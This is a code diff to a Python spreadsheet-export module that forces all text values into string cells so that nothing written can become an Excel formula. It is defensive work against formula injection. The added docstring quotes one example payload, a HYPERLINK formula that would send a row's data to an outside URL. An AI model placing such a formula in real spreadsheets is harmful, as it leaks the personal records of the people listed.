@@ -1,6 +1,10 @@
 """Writing spreadsheets people can use at once: a bold frozen header row with filters, columns wide
 enough for Chinese text, dates as real dates, ID numbers, phones and 户编号 as text (never
-``5.13301E+17``), and long text wrapped. Written to a temporary name and renamed when complete."""
+``5.13301E+17``), and long text wrapped. Written to a temporary name and renamed when complete.
+
+Every value reaches a cell through :func:`set_value`, and text there is always a string cell: openpyxl
+would make ``=HYPERLINK("http://…?leak="&A2,"点击查看")`` typed as a member's name a live formula that
+sends the row away when the township opens the file. Nothing we write is ever a formula."""
 
 from __future__ import annotations
 
@@ -12,7 +16,7 @@ from pathlib import Path
 from typing import Any
 
 from openpyxl import Workbook
-from openpyxl.cell import WriteOnlyCell
+from openpyxl.cell import Cell, WriteOnlyCell
 from openpyxl.styles import Alignment, Font, PatternFill
 from openpyxl.utils import get_column_letter
 from openpyxl.worksheet._write_only import WriteOnlyWorksheet
@@ -84,7 +88,7 @@ def _write_sheet(sheet: WriteOnlyWorksheet, data: SheetData) -> None:
     sheet.auto_filter.ref = f"A1:{last}{len(data.rows) + 1}"
     header_cells = []
     for text in data.headers:
-        cell = WriteOnlyCell(sheet, value=text)
+        cell = text_cell(sheet, text)
         cell.font = Font(bold=True)
         cell.fill = _HEADER_FILL
         cell.alignment = Alignment(horizontal="center", vertical="center", wrap_text=True)
@@ -94,7 +98,7 @@ def _write_sheet(sheet: WriteOnlyWorksheet, data: SheetData) -> None:
     for row_index, row in enumerate(data.rows):
         cells = []
         for index, value in enumerate(row):
-            cell = WriteOnlyCell(sheet, value=_value(value, index in data.text_columns))
+            cell = text_cell(sheet, _value(value, index in data.text_columns))
             if index in data.text_columns:
                 cell.number_format = TEXT_FORMAT
             elif isinstance(value, dt.date):
@@ -108,6 +112,21 @@ def _write_sheet(sheet: WriteOnlyWorksheet, data: SheetData) -> None:
                 cell.fill = _FILLS[fill]
             cells.append(cell)
         sheet.append(cells)
+
+
+def set_value(cell: Cell | WriteOnlyCell, value: Any) -> None:
+    """The one way a value goes into a cell we write: text is a string cell whatever its first
+    character (``=``, ``+``, ``-``, ``@`` …), never a formula."""
+    cell.value = value
+    if isinstance(value, str):
+        cell.data_type = "s"  # openpyxl made "=…" a formula ("f") just above
+
+
+def text_cell(sheet: WriteOnlyWorksheet, value: Any) -> WriteOnlyCell:
+    """A cell for a write-only sheet, holding ``value`` as :func:`set_value` puts it."""
+    cell = WriteOnlyCell(sheet)
+    set_value(cell, value)
+    return cell
 
 
 def _value(value: Any, as_text: bool) -> Any:
